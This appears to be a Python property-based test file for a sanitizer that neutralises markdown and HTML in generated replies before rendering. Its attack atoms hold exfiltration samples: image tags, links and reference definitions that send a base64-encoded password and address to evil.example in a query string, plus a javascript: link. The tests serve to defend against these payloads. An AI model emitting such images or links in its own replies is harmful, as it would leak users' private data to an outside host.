"""Invariants over generated replies (hypothesis): idempotence, honest text unchanged,
changes confined to the spans the findings name, and no leak in any renderer."""

from __future__ import annotations

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from attacks import violations
from rendersafe import Construct, Finding, Sanitizer

S = Sanitizer()
PAYLOAD = "VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIyIGFuZCBsaXZlcyBhdCAxMiBFbG0gU3Q="

HONEST_ATOMS = [
    "Hello world.", "**bold**", "*em*", "`code`", "``a`b``", "[docs](https://docs.python.org/3/)",
    "<https://example.com/a>", "https://github.com/encode/httpx", "www.example.com",
    "[ref][r]", "[r]", "x < y", "a & b", "[sic]", "array[0]", "(paren)", "!", "<kbd>K</kbd>",
    "<br>", "see [1]", "---", "# Title", "| a | b |", "|---|---|", "```", "~~~", "    indented",
    "\\*escaped\\*", "&copy;", "&amp;", "someone@example.com", "\u00e9t\u00e9", "\t", "  ",
    "[link](#anchor)", "[a](./b.md 'title')", "[", "]", "(", ")", "<!-- c -->",
]  # fmt: skip
# Not honest: a self-healing renderer closes `![](` onto whatever URL follows.
ATTACK_ATOMS = [
    "![x](https://evil.example/p.png)",
    f"![x](https://evil.example/p.png?d={PAYLOAD})",
    f"[click](https://evil.example/?d={PAYLOAD})",
    "![r]",
    "![alt][r]",
    "[r]: https://evil.example/r.png",
    f"[q]: https://evil.example/?d={PAYLOAD}",
    "[q]",
    "<img src=https://evil.example/i.png>",
    f"<a href='https://evil.example/?d={PAYLOAD}'>a</a>",
    f"https://evil.example/?d={PAYLOAD}",
    "![a](http://evil.example/a b.png)",
    "![a](//evil.example/x.png",
    '<img src="https://evil.example/cut.png',
    "<!--",
    "[x](javascript:alert(1))",
    "![](",
]
PREFIXES = ["", "> ", "> > ", "- ", "1. ", "  ", "\t", "# ", "| "]
SEPARATORS = [" ", "\n", "\n\n", ""]


def _document(atoms: list[str], separators: list[str] = SEPARATORS) -> st.SearchStrategy[str]:
    line = st.lists(st.sampled_from(atoms), min_size=1, max_size=6).map(" ".join)
    prefixed = st.tuples(st.sampled_from(PREFIXES), line).map("".join)
    return st.lists(st.tuples(prefixed, st.sampled_from(separators)), max_size=8).map(
        lambda parts: "".join(a + b for a, b in parts)
    )


# Lines glued with no separator are no honest reply: `!` and `[` make an image, and a
# URL runs on into the next line's e-mail address (`.../refsomeone@example.com`, data
# in a URL to the reply-only judge).
honest = _document(["[r]: https://example.org/ref", *HONEST_ATOMS], SEPARATORS[:-1]).filter(
    lambda t: "![" not in t
)
mixed = _document(HONEST_ATOMS + ATTACK_ATOMS)
# Markup fragments glued with no structure: where renderers disagree most (fences,
# raw HTML, comments and backticks cut at odd places). Each bug fuzzing found here
# is pinned in tests/fixtures/default/regressions_*.md.
SOUP_ATOMS = [
    "[", "![", "<", "](", "`", "```", "~~~", "~~", "<!--", "-->", "<div>", "</div>",
    "<pre>", "</pre>", "<p>", "> ", "- ", "    ", "\n", "\n\n", "'", '"', "(", ")", "a ",
    "word ", "&amp;", "[r]:", "![r]", "[r]: https://evil.example/x.png",
    "![a](https://evil.example/x.png)", "<img src=https://evil.example/x.png>",
    "<https://evil.example/x.png>", f"https://evil.example/?d={PAYLOAD} ",
]  # fmt: skip
soup = st.lists(st.sampled_from(SOUP_ATOMS), max_size=60).map("".join)
SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@SETTINGS
@given(honest)
def test_honest_replies_come_back_unchanged(text: str) -> None:
    result = S.run(text)
    assert result.text == text
    assert result.findings == ()


@SETTINGS
@given(mixed)
def test_idempotent(text: str) -> None:
    once = S.run(text).text
    assert S.run(once).text == once


@SETTINGS
@given(mixed)
def test_changes_stay_inside_the_findings_spans(text: str) -> None:
    result = S.run(text)
    if not any(f.recheck for f in result.findings):
        _assert_outside_unchanged(text, result.text, list(result.findings))


FIRST_CHARACTER = {
    Construct.IMAGE: "!",
    Construct.REFERENCE_IMAGE: "!",
    Construct.LINK: "[",
    Construct.REFERENCE_LINK: "[",
    Construct.AUTOLINK: "<",
    Construct.REFERENCE_DEFINITION: "[",
}


@SETTINGS
@given(mixed)
@example("![]( someone@example.com ")  # the second line escapes the `[`; the image is at `!`
def test_findings_point_at_their_construct(text: str) -> None:
    """Source spans are exact: a finding starts on the construct's first character."""
    for finding in S.run(text).findings:
        expected = FIRST_CHARACTER.get(finding.construct)
        if expected and not finding.recheck and finding.detail != "unplaced":
            assert text[finding.start] == expected, (finding, text)
            line_start = text.rfind("\n", 0, finding.start) + 1
            assert finding.column == finding.start - line_start + 1


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mixed)
def test_no_renderer_leaks_the_output(text: str) -> None:
    output = S.run(text).text
    assert violations(output, payloads=[PAYLOAD[:24], "hunter2"]) == []


@settings(
    max_examples=1000,
    deadline=None,
    derandomize=True,  # a fixed search: main stays green; fuzz beyond it by hand
    suppress_health_check=[HealthCheck.too_slow],
)
@given(soup)
def test_no_renderer_leaks_markup_soup(text: str) -> None:
    output = S.run(text).text
    assert violations(output, payloads=[PAYLOAD[:24]]) == [], output


# Attribute values spelled with character references: each one used to make the
# re-check oscillate and refuse the reply (tests/fixtures/default/refusals_*.md).
ATTRIBUTE_ATOMS = [
    '<img src="', '<a href="', '<abbr title="', '<img alt="', '"', "'", ">", "</a>", " ",
    "https://example.com/c.png?w=1", "https://evil.example/p.png", "&amp;", "&Tab;",
    "&colon;", "&#104;", "&#x2F;", "&lt;", "&gt;", "&shy;", "&copy", "h=2", "<", "x",
]  # fmt: skip
attribute_soup = st.lists(st.sampled_from(ATTRIBUTE_ATOMS), max_size=24).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(attribute_soup)
def test_character_references_never_refuse_nor_leak(text: str) -> None:
    result = S.run(text)  # never raises: no reply is refused
    assert S.run(result.text).text == result.text
    assert violations(result.text, payloads=[]) == [], result.text


@SETTINGS
@given(st.text(max_size=300))
def test_arbitrary_unicode_never_crashes(text: str) -> None:
    result = S.run(text)
    assert S.run(result.text).text == result.text


def _assert_outside_unchanged(before: str, after: str, findings: list[Finding]) -> None:
    """Every stretch of `before` outside the changed spans appears in `after`, in order."""
    spans = sorted((f.start, f.end) for f in findings)
    pos, cursor = 0, 0
    for start, end in spans:
        if start < pos:
            pos = max(pos, end)
            continue
        kept = before[pos:start]
        found = after.find(kept, cursor)
        assert found >= 0, (kept, after)
        cursor = found + len(kept)
        pos = end
    assert after.endswith(before[pos:]) if pos <= len(before) else True
